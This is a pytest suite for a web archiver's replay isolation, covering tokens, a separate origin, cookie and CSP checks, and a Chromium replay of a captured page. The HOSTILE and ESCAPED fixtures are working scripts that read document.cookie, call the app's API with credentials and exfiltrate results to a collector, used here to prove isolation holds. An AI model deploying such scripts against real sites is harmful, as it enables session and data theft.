"""Replay isolation (archiver.web.replay): the replay origin, its tokens, and a hostile
archived page replayed in the real Chromium.

The app and its replay origin run as ``archiver serve`` runs them (tests/fixtures/api.py
``Api.start_with_replay``: the app and its replay origin on two ports of 127.0.0.1), over a
real archive whose captures are made by the daemon's own JobRunner from local HTTP
servers. The app's capture page is G's; until it exists these tests frame the replay
through a route of their own, registered through the gate like every route, which calls
the real :func:`archiver.web.replay.replay_frame_url`.
"""

from __future__ import annotations

import hashlib
import json
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import unquote, urlsplit

import httpx
import pytest
from api_fixtures import Api, Person, Server, run_jobs
from browser_fixtures import Chromium
from fastapi import APIRouter, FastAPI, Request
from starlette.responses import HTMLResponse, JSONResponse, Response
from starlette.types import Message, Receive, Scope, Send

from archiver.cli.serve import ServePlan, origins
from archiver.errors import ArchiverError, BadInput
from archiver.people.access import Action
from archiver.settings import WebSettings
from archiver.web.api.captures import checked_capture
from archiver.web.auth import SESSION_COOKIE
from archiver.web.gate import GateDep, route
from archiver.web.replay import (
    REPLAYWEB_FILES,
    WARC_PATH,
    ReplayRefused,
    ReplayTokens,
    default_replay_origin,
    replay_frame_url,
)

sqlite_only = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)

REFUSED = b"not found\n"
MARKER = "Quarterly figures of the harbour authority"


# -- helpers ---------------------------------------------------------------------------


def capture(api: Api, http: httpx.Client, url: str, case: str = "Case 7") -> str:
    answer = http.post("/api/captures", json={"urls": [url], "case": case})
    assert answer.status_code == 202, answer.text
    capture_id: str = answer.json()["jobs"][0]["capture_id"]
    run_jobs(api)
    shown = http.get(f"/api/captures/{capture_id}")
    assert shown.json()["status"] == "completed", shown.text
    return capture_id


def frame_route(app: FastAPI) -> FastAPI:
    """The app with the capture page's replay frame: ``/api/test-replay/{id}`` (JSON:
    the frame's src) and ``/test-replay/{id}/page`` (HTML: an iframe of it)."""
    router = APIRouter()

    @route(router, "GET", "/api/test-replay/{capture_id}", action=Action.CAPTURE_VIEW)
    def frame_src(capture_id: str, gate: GateDep, request: Request) -> Response:
        found = checked_capture(request, gate, capture_id)
        return JSONResponse({"src": replay_frame_url(request, gate, found)})

    @route(router, "GET", "/test-replay/{capture_id}/page", action=Action.CAPTURE_VIEW)
    def frame_page(capture_id: str, gate: GateDep, request: Request) -> Response:
        found = checked_capture(request, gate, capture_id)
        src = replay_frame_url(request, gate, found)
        return HTMLResponse(
            "<!doctype html><html lang=\"en\"><head><title>capture</title></head><body>"
            f"<h1>Capture</h1><iframe id=\"replay\" title=\"replay\" src=\"{src}\" "
            "width=\"1000\" height=\"700\"></iframe></body></html>")

    app.router.routes.extend(router.routes)
    return app


@dataclass
class Seen:
    path: str
    method: str
    session: str | None
    fetch_site: str | None
    status: int = 0


@dataclass
class RequestLog:
    """Every request the app's server receives: path, the session cookie it carried."""

    app: Any
    seen: list[Seen] = field(default_factory=list)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        headers = {k.decode("latin-1"): v.decode("latin-1") for k, v in scope["headers"]}
        cookies = dict(part.strip().split("=", 1) for part in
                       headers.get("cookie", "").split(";") if "=" in part)
        entry = Seen(scope["path"], scope["method"], cookies.get(SESSION_COOKIE),
                     headers.get("sec-fetch-site"))
        self.seen.append(entry)

        async def noted(message: Message) -> None:
            if message["type"] == "http.response.start":
                entry.status = int(message["status"])
            await send(message)

        await self.app(scope, receive, noted)


@dataclass
class Replay:
    api: Api
    app: Server
    replay: Server
    bob: Person
    http: httpx.Client  # bob's session on the app
    capture_id: str
    log: RequestLog

    def src(self, http: httpx.Client | None = None, capture_id: str | None = None) -> str:
        answer = (http or self.http).get(f"/api/test-replay/{capture_id or self.capture_id}")
        assert answer.status_code == 200, answer.text
        src: str = answer.json()["src"]
        return src

    def token(self, **kwargs: Any) -> str:
        return self.src(**kwargs).rsplit("/", 1)[1]

    def get(self, path: str, **kwargs: Any) -> httpx.Response:
        return httpx.get(self.replay.url + path, timeout=30, **kwargs)


class Site:
    """A page server on 127.0.0.1: ``/`` is a page, ``/collect`` logs what is posted."""

    def __init__(self, page: Callable[[], str]) -> None:
        self.collected: list[str] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path.startswith("/collect"):
                    site.collected.append(unquote(self.path))
                    self._answer(b"", "text/plain")
                    return
                self._answer(page().encode(), "text/html; charset=utf-8")

            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                site.collected.append(self.rfile.read(length).decode("utf-8", "replace"))
                self._answer(b"", "text/plain")

            def _answer(self, body: bytes, kind: str) -> None:
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


HOSTILE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Harbour report</title></head>
<body><h1>{marker}</h1><p id="status">waiting</p>
<script>
(async () => {{
  const report = {{origin: location.origin, cookie: document.cookie, answers: []}};
  const tries = [["GET", "/api/me"], ["POST", "/api/captures"]];
  for (const [method, path] of tries) {{
    try {{
      const answer = await fetch("{app}" + path, {{
        method, credentials: "include", headers: {{"Content-Type": "application/json"}},
        body: method === "POST" ? JSON.stringify({{urls: ["http://192.0.2.1/"],
                                                  case: "Case 7"}}) : undefined}});
      report.answers.push({{path, status: answer.status, body: await answer.text()}});
    }} catch (error) {{
      report.answers.push({{path, error: String(error)}});
    }}
  }}
  const text = JSON.stringify(report);
  try {{ await fetch("{collector}", {{method: "POST", body: text, mode: "no-cors"}}); }}
  catch (error) {{}}
  try {{ navigator.sendBeacon("{collector}", text); }} catch (error) {{}}
  new Image().src = "{collector}?d=" + encodeURIComponent(text);
  document.getElementById("status").textContent = "script ran";
}})();
</script></body></html>
"""


@pytest.fixture
def replay(api: Api) -> Iterator[Replay]:
    """Bob (investigator of Case 7) signed in to the app; one completed capture of a
    page of a local site; the app (its requests logged) and its replay origin."""
    log_holder: list[RequestLog] = []

    def around(app: FastAPI) -> RequestLog:
        log_holder.append(RequestLog(frame_route(app)))
        return log_holder[0]

    app_server, replay_server = api.start_with_replay(around=around)
    bob = api.user("bob", cases={"Case 7": "investigator"})
    http = bob.client()
    http.base_url = httpx.URL(app_server.url)
    site = Site(lambda: "<!doctype html><title>plain</title><p>" + MARKER + "</p>")
    try:
        capture_id = capture(api, http, site.url + "/")
        yield Replay(api, app_server, replay_server, bob, http, capture_id, log_holder[0])
    finally:
        site.close()


def stored_warc(r: Replay) -> bytes:
    shown = r.http.get(f"/api/captures/{r.capture_id}").json()
    (warc,) = [a for a in shown["artifacts"] if a["role"] == "warc"]
    body = r.http.get(warc["download"]).content
    assert hashlib.sha256(body).hexdigest() == warc["sha256"]
    return body


# -- tokens ------------------------------------------------------------------------------


@sqlite_only
def test_minting_records_a_replay_view_and_the_token_opens_the_page_and_warc(
        replay: Replay) -> None:
    """The frame's src is on the replay origin; minting it appends access.viewed {mode:
    replay} naming bob; the page embeds ReplayWeb.page over the token's WARC."""
    before = len(list(replay.api.archive.ledger.entries(actions=["access.viewed"])))
    src = replay.src()
    assert src.startswith(replay.replay.url + "/r/")
    viewed = list(replay.api.archive.ledger.entries(actions=["access.viewed"]))
    assert len(viewed) == before + 1
    assert viewed[-1].actor == "user:bob"
    assert viewed[-1].subject == f"capture:{replay.capture_id}"
    assert viewed[-1].payload["mode"] == "replay"
    page = httpx.get(src, timeout=30)
    assert page.status_code == 200
    token = src.rsplit("/", 1)[1]
    assert f'<replay-web-page source="/r/{token}/{WARC_PATH}" url="' in page.text
    assert 'replayBase="/replay/"' in page.text
    assert "<script>" not in page.text  # no inline script: ui.js by src only
    policy = page.headers["content-security-policy"]
    assert f"frame-ancestors {replay.app.url}" in policy
    assert "script-src 'self';" in policy
    assert page.headers["cross-origin-resource-policy"] == "same-origin"
    assert page.headers["referrer-policy"] == "no-referrer"
    whole = replay.get(f"/r/{token}/{WARC_PATH}")
    assert whole.status_code == 200
    assert whole.content == stored_warc(replay)
    # the app frames the replay origin, and nothing else
    app_policy = replay.http.get("/api/me").headers["content-security-policy"]
    assert f"frame-src {replay.replay.url};" in app_policy


@sqlite_only
def test_the_warc_is_served_by_ranges(replay: Replay) -> None:
    """ReplayWeb.page reads by ranges: 206 with the bytes asked for, 416 past the end."""
    token = replay.token()
    warc = stored_warc(replay)
    path = f"/r/{token}/{WARC_PATH}"
    part = replay.get(path, headers={"Range": "bytes=10-99"})
    assert part.status_code == 206
    assert part.content == warc[10:100]
    assert part.headers["content-range"] == f"bytes 10-99/{len(warc)}"
    tail = replay.get(path, headers={"Range": "bytes=-16"})
    assert (tail.status_code, tail.content) == (206, warc[-16:])
    past = replay.get(path, headers={"Range": f"bytes={len(warc)}-"})
    assert past.status_code == 416
    assert past.headers["content-range"] == f"bytes */{len(warc)}"


@sqlite_only
def test_refused_tokens_all_get_the_same_404(replay: Replay) -> None:
    """Malformed, forged (MAC changed), another capture's id under this token's MAC,
    expired: each is the same 404 body, for the page and for the WARC."""
    token = replay.token()
    capture_id, user_id, expires, mac = token.split(".")
    other = capture(replay.api, replay.http,
                    f"{replay.replay.url}/replay/sw.js?other")  # any local URL will do
    forged_mac = mac[:-1] + ("A" if mac[-1] != "A" else "B")
    bad = {
        "malformed": "not-a-token",
        "forged": f"{capture_id}.{user_id}.{expires}.{forged_mac}",
        "other capture": f"{other}.{user_id}.{expires}.{mac}",
        "longer life": f"{capture_id}.{user_id}.{int(expires) + 3600}.{mac}",
        "other person": f"{capture_id}.{int(user_id) + 1}.{expires}.{mac}",
    }
    for why, wrong in bad.items():
        for path in (f"/r/{wrong}", f"/r/{wrong}/{WARC_PATH}"):
            answer = replay.get(path)
            assert (answer.status_code, answer.content) == (404, REFUSED), (why, path)
    assert replay.get(f"/r/{token}").status_code == 200
    replay.api.clock.advance(minutes=10, seconds=1)
    for path in (f"/r/{token}", f"/r/{token}/{WARC_PATH}"):
        answer = replay.get(path)
        assert (answer.status_code, answer.content) == (404, REFUSED)


def test_tokens_check_their_mac_and_expiry_without_a_server() -> None:
    """ReplayTokens: what is refused says why (for the server's log)."""
    from datetime import UTC, datetime, timedelta

    now = datetime(2026, 1, 1, tzinfo=UTC)
    tokens = ReplayTokens(b"k" * 32)
    token = tokens.mint("0" * 8 + "-0000-0000-0000-" + "0" * 12, 7, now)
    grant = tokens.check(token, now + timedelta(minutes=9))
    assert (grant.user_id, grant.expires) == (7, int((now + timedelta(minutes=10)).timestamp()))
    with pytest.raises(ReplayRefused, match=r"^replay token refused: expired$"):
        tokens.check(token, now + timedelta(minutes=10))
    with pytest.raises(ReplayRefused, match=r"^replay token refused: forged$"):
        ReplayTokens(b"j" * 32).check(token, now)
    with pytest.raises(ReplayRefused, match=r"^replay token refused: malformed$"):
        tokens.check(token + "x", now)


@sqlite_only
def test_a_revoked_role_or_a_disabled_person_ends_the_replay_at_once(replay: Replay) -> None:
    """Carol's token (Case 7 viewer) opens the capture until her role is revoked; then
    it is refused though unexpired. Dave's ends when he is disabled."""
    api = replay.api
    carol = api.user("carol", cases={"Case 7": "viewer"})
    carol_http = carol.client()
    carol_http.base_url = httpx.URL(replay.app.url)
    token = replay.token(http=carol_http)
    assert replay.get(f"/r/{token}/{WARC_PATH}").status_code == 200
    api.people.revoke("Case 7", "carol")
    for path in (f"/r/{token}", f"/r/{token}/{WARC_PATH}"):
        answer = replay.get(path)
        assert (answer.status_code, answer.content) == (404, REFUSED)
    dave = api.user("dave", cases={"Case 7": "legal"})
    dave_http = dave.client()
    dave_http.base_url = httpx.URL(replay.app.url)
    token = replay.token(http=dave_http)
    assert replay.get(f"/r/{token}").status_code == 200
    api.people.disable_user("dave")
    assert (replay.get(f"/r/{token}").status_code, replay.get(f"/r/{token}").content) \
        == (404, REFUSED)


@sqlite_only
def test_no_token_is_minted_for_who_may_not_replay(replay: Replay) -> None:
    """An auditor (verify, no content) is refused (403) and a member of another case gets
    the 404 of a capture that does not exist; neither adds access.viewed."""
    api = replay.api
    ledger = api.archive.ledger
    before = len(list(ledger.entries(actions=["access.viewed"])))
    auditor = api.user("erin", "auditor", cases={}, mfa=True).client()
    auditor.base_url = httpx.URL(replay.app.url)
    answer = auditor.get(f"/api/test-replay/{replay.capture_id}")
    assert answer.status_code == 403
    assert answer.json()["error"]["code"] == "forbidden"
    outsider = api.user("frank", cases={"Case 9": "investigator"}).client()
    outsider.base_url = httpx.URL(replay.app.url)
    answer = outsider.get(f"/api/test-replay/{replay.capture_id}")
    assert answer.status_code == 404
    assert answer.json()["error"]["code"] == "not-found"
    assert len(list(ledger.entries(actions=["access.viewed"]))) == before


@sqlite_only
def test_the_replay_origin_takes_no_cookie_and_sets_none(replay: Replay) -> None:
    """Bob's real session cookie opens nothing on the replay origin, and no answer of it
    (page, WARC, ReplayWeb.page's files, a refusal) sets a cookie."""
    cookie = replay.http.cookies.get(SESSION_COOKIE)
    assert cookie
    token = replay.token()
    with_cookie = {"Cookie": f"{SESSION_COOKIE}={cookie}"}
    paths = [f"/r/{token}", f"/r/{token}/{WARC_PATH}", "/r/x", "/api/me", "/",
             *(f"/replay/{name}" for name in REPLAYWEB_FILES)]
    for path in paths:
        answer = replay.get(path, headers=with_cookie)
        assert "set-cookie" not in answer.headers, path
        assert answer.headers["cross-origin-resource-policy"] == "same-origin", path
    for path in ("/api/me", "/", f"/r/{SESSION_COOKIE}"):
        answer = replay.get(path, headers=with_cookie)
        assert (answer.status_code, answer.content) == (404, REFUSED), path


@sqlite_only
def test_the_session_cookie_counts_only_on_the_apps_own_requests(replay: Replay) -> None:
    """Requests from the replay origin carry the app's cookie (same host, same site);
    the app treats any request the browser marks as from another origin (same-site or
    cross-site) as anonymous: 401, nothing done, nothing recorded. Its own pages'
    requests (same-origin), typed URLs (none) and clients that do not say (no header)
    are signed in."""
    cookie = replay.http.cookies[SESSION_COOKIE]
    csrf = replay.http.headers["X-CSRF-Token"]
    jar = {"Cookie": f"{SESSION_COOKIE}={cookie}", "X-CSRF-Token": csrf}
    ledger = replay.api.archive.ledger
    before = ledger.size()
    for site in ("same-site", "cross-site", "SAME-SITE"):
        me = httpx.get(f"{replay.app.url}/api/me", headers={**jar, "Sec-Fetch-Site": site})
        assert me.status_code == 401, site
        assert me.json()["error"]["code"] == "unauthenticated"
        posted = httpx.post(f"{replay.app.url}/api/captures",
                            headers={**jar, "Sec-Fetch-Site": site},
                            json={"urls": ["http://192.0.2.1/"], "case": "Case 7"})
        assert posted.status_code == 401, site
    assert ledger.size() == before
    for own in ("same-origin", "none", None):
        extra = {} if own is None else {"Sec-Fetch-Site": own}
        me = httpx.get(f"{replay.app.url}/api/me", headers={**jar, **extra})
        assert (me.status_code, me.json()["user"]["login"]) == (200, "bob"), own


def test_a_request_from_another_origin_is_anonymous_without_sec_fetch_site(
        replay: Replay) -> None:
    """A browser that sends ``Origin`` but not ``Sec-Fetch-Site`` is held too: an
    ``Origin`` other than the app's own makes the cookie count for nothing."""
    cookie = replay.http.cookies[SESSION_COOKIE]
    csrf = replay.http.headers["X-CSRF-Token"]
    jar = {"Cookie": f"{SESSION_COOKIE}={cookie}", "X-CSRF-Token": csrf}
    before = replay.api.archive.ledger.size()
    for origin in (replay.replay.url, "http://evil.example", "null"):
        me = httpx.get(f"{replay.app.url}/api/me", headers={**jar, "Origin": origin})
        assert me.status_code == 401, origin
        posted = httpx.post(f"{replay.app.url}/api/captures",
                            headers={**jar, "Origin": origin},
                            json={"urls": ["http://192.0.2.1/"], "case": "Case 7"})
        assert posted.status_code == 401, origin
    assert replay.api.archive.ledger.size() == before
    own = httpx.get(f"{replay.app.url}/api/me", headers={**jar, "Origin": replay.app.url})
    assert (own.status_code, own.json()["user"]["login"]) == (200, "bob")


# -- the replay origin's route table ---------------------------------------------------


VENDORED = {"/replay/ui.js": "text/javascript", "/replay/sw.js": "text/javascript",
            "/replay/page.css": "text/css", "/replay/retry.js": "text/javascript",
            "/replay/": "text/html"}
"""Routes without a token: fixed library files, the page's style and the page that
waits for the service worker, nothing of the archive."""
TOKEN_ROUTES = {"/r/{token}": "text/html; charset=utf-8",
                f"/r/{{token}}/{WARC_PATH}": "application/warc"}


@sqlite_only
def test_every_route_of_the_replay_origin_is_a_fixed_file_or_checks_the_token(
        replay: Replay) -> None:
    """The replay app's route table is exactly these routes; each token route refuses
    a missing, forged and expired token and answers a valid one; the vendored files
    are the npm package's bytes (sw.js allowed to control /replay/)."""
    from archiver.web.assets import default_assets_dir
    from archiver.web.replay import create_replay_app

    app = create_replay_app(replay.api.archive, secret=b"s" * 32,
                            app_origin="http://127.0.0.1:1", assets_dir=default_assets_dir())
    paths = {r.path for r in app.app.routes}  # type: ignore[attr-defined]
    assert paths == set(VENDORED) | set(TOKEN_ROUTES)
    for path, kind in VENDORED.items():
        answer = replay.get(path)
        assert (answer.status_code, answer.headers["content-type"].split(";")[0]) \
            == (200, kind), path
    assert replay.get("/replay/sw.js").headers["service-worker-allowed"] == "/replay/"
    package = default_assets_dir() / "replaywebpage"
    for name in REPLAYWEB_FILES:
        assert replay.get(f"/replay/{name}").content == (package / name).read_bytes()
    token = replay.token()
    cap, user, expires, mac = token.split(".")
    for path, kind in TOKEN_ROUTES.items():
        good = replay.get(path.replace("{token}", token))
        assert (good.status_code, good.headers["content-type"]) == (200, kind), path
        for wrong in ("", "x", f"{cap}.{user}.{expires}.{mac[::-1]}"):
            answer = replay.get(path.replace("{token}", wrong))
            assert (answer.status_code, answer.content) == (404, REFUSED), (path, wrong)
    replay.api.clock.advance(minutes=11)
    for path in TOKEN_ROUTES:
        assert replay.get(path.replace("{token}", token)).status_code == 404, path


# -- the origins archiver serve chooses ------------------------------------------------


def test_serve_chooses_the_replay_origin() -> None:
    """On loopback the replay origin is the app's host on the replay port; off loopback
    both origins must be set; the app's own origin is refused as the replay origin."""
    loopback = ServePlan("127.0.0.1", 8000, None, None, True, ())
    assert origins(WebSettings(), loopback, "http://127.0.0.1:8000/", 8001) \
        == ("http://127.0.0.1:8000", "http://127.0.0.1:8001")
    assert default_replay_origin("::1", 9, "https") == "https://[::1]:9"
    with pytest.raises(BadInput, match=(
            r"^web.replay_origin must be another origin than the app's "
            r"\(http://127.0.0.1:8000\): archived pages must never run on the app's "
            r"origin$")):
        origins(WebSettings(replay_origin="http://127.0.0.1:8000/"), loopback,
                "http://127.0.0.1:8000/", 8001)
    proxied = ServePlan("0.0.0.0", 8000, None, None, False, ("127.0.0.1",))
    with pytest.raises(BadInput, match=r"^set web.app_origin \(e.g. https://archive"):
        origins(WebSettings(), proxied, "http://0.0.0.0:8000/", 8001)
    with pytest.raises(BadInput, match=r"^set web.replay_origin \(e.g. https://replay"):
        origins(WebSettings(app_origin="https://archive.example.org"), proxied,
                "http://0.0.0.0:8000/", 8001)
    with pytest.raises(BadInput, match=(
            r"^web.replay_origin must be an origin such as https://host.example.org, not "
            r"'https://r.example.org/path'$")):
        origins(WebSettings(app_origin="https://a.example.org",
                            replay_origin="https://r.example.org/path"), proxied, "", 1)
    assert origins(WebSettings(app_origin="https://archive.example.org",
                               replay_origin="https://replay.archive.example.org/"),
                   proxied, "", 1) \
        == ("https://archive.example.org", "https://replay.archive.example.org")
    with pytest.raises(ArchiverError, match=r"^set web.replay_origin"):
        default_replay_origin("192.0.2.1", 1)
    on_loopback_proxied = ServePlan("127.0.0.1", 8000, None, None, False, ("127.0.0.1",))
    with pytest.raises(BadInput, match=r"^set web.app_origin"):
        origins(WebSettings(), on_loopback_proxied, "http://127.0.0.1:8000/", 8001)
    with pytest.raises(BadInput, match=r"^set web.replay_origin"):
        origins(WebSettings(app_origin="https://archive.example.org"),
                on_loopback_proxied, "http://127.0.0.1:8000/", 8001)


# -- the hostile page, replayed in Chromium ----------------------------------------------


def _wait(what: str, check: Callable[[], bool], seconds: float = 30) -> None:
    deadline = time.monotonic() + seconds
    while not check():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        time.sleep(0.1)


def _frame_with(page: Any, text: str) -> Any | None:
    for frame in page.frames:
        try:
            if text in frame.evaluate("document.body ? document.body.innerText : ''"):
                return frame
        except Exception:
            continue
    return None


ESCAPED = """async (app) => {
  const out = {cookie: document.cookie};
  try {
    const answer = await fetch(app + "/api/me", {credentials: "include"});
    out.me = answer.status + " " + await answer.text();
  } catch (error) { out.me = String(error); }
  try {
    await fetch(app + "/api/captures", {method: "POST", mode: "no-cors",
      credentials: "include", body: JSON.stringify({urls: ["http://192.0.2.1/"]})});
    out.post = "sent";
  } catch (error) { out.post = String(error); }
  return out;
}"""
"""Script run as the replay origin's own page (as if a replayed page escaped
ReplayWeb.page's rewriting): it reads document.cookie and calls the app."""


@sqlite_only
def test_a_hostile_page_replayed_gets_nothing_of_the_session(replay: Replay,
                                                            chromium: Chromium) -> None:
    """A captured page whose script reads document.cookie, calls the app's API with
    credentials and posts what it got to a collector, replayed in Chromium inside the
    app's page for a signed-in person: it is shown (its text is in the replay frame)
    and its script ran, yet the collector gets no cookie and no answer of the API, no
    API request reaches the app, and the ledger gains only the replay's access.viewed.
    Script run as the replay origin's own page gets no cookie and cannot call the app.
    Control: the same page opened live reaches the app and the collector, so the
    probe would have seen a leak."""
    holder: list[Site] = []
    site = Site(lambda: HOSTILE.format(marker=MARKER, app=replay.app.url,
                                       collector=holder[0].url + "/collect"))
    holder.append(site)
    ledger = replay.api.archive.ledger
    try:
        hostile_id = capture(replay.api, replay.http, site.url + "/")
        # the session's one Playwright and Chromium (a second sync Playwright in the
        # same process refuses to start while the first runs)
        context = chromium.browser.new_context()
        try:
            page = context.new_page()
            console: list[str] = []
            context.on("console", lambda m: console.append(f"{m.type}: {m.text}"))
            signed_in = page.request.post(
                replay.app.url + "/api/auth/login",
                data=json.dumps({"login": "bob", "password": replay.bob.password}),
                headers={"Content-Type": "application/json"})
            assert signed_in.status == 200, signed_in.text()
            session = next(c["value"] for c in context.cookies()
                           if c["name"] == SESSION_COOKIE)
            replay.log.seen.clear()
            known = {e.seq for e in ledger.entries()}

            page.goto(f"{replay.app.url}/test-replay/{hostile_id}/page")
            frame = None
            for attempt in range(2):  # the service worker may not control the
                deadline = time.monotonic() + 30  # first load: reload once
                while frame is None and time.monotonic() < deadline:
                    frame = _frame_with(page, MARKER)
                    time.sleep(0.2)
                if frame is not None or attempt:
                    break
                page.reload()
            assert frame is not None, ("the hostile page was not replayed", console)
            assert urlsplit(frame.url).netloc == urlsplit(replay.replay.url).netloc
            ran = frame
            _wait("the hostile script", lambda: ran.evaluate(
                "document.getElementById('status').textContent") == "script ran")
            time.sleep(1)  # a beacon or image may still be on its way
            during_replay = list(replay.log.seen)
            collected = list(site.collected)
            entries = [e for e in ledger.entries() if e.seq not in known]

            (origin_frame,) = [f for f in page.frames
                               if f.url.startswith(replay.replay.url + "/r/")]
            replay.log.seen.clear()
            escaped = origin_frame.evaluate(ESCAPED, replay.app.url)
            escaped_calls = list(replay.log.seen)

            # the control: the same page opened live
            live = context.new_page()
            live.goto(site.url + "/")
            _wait("the live page's report", lambda: len(site.collected) > len(collected))
        finally:
            context.close()

        for text in collected:
            assert session not in text
            assert '"login":"bob"' not in text
            assert '"user":' not in text
        assert {s.path for s in during_replay} <= {f"/test-replay/{hostile_id}/page",
                                                   "/favicon.ico"}
        assert [(e.action, e.actor, e.payload.get("mode")) for e in entries] \
            == [("access.viewed", "user:bob", "replay")]
        # escaped script: no cookie to read, and the replay page's CSP (connect-src
        # 'self') stops its calls before they leave the browser
        assert escaped == {"cookie": "", "me": "TypeError: Failed to fetch",
                           "post": "TypeError: Failed to fetch"}
        assert escaped_calls == []
        # the control shows the probe would have seen a leak
        assert any('"path":"/api/me"' in text for text in site.collected[len(collected):])
    finally:
        site.close()
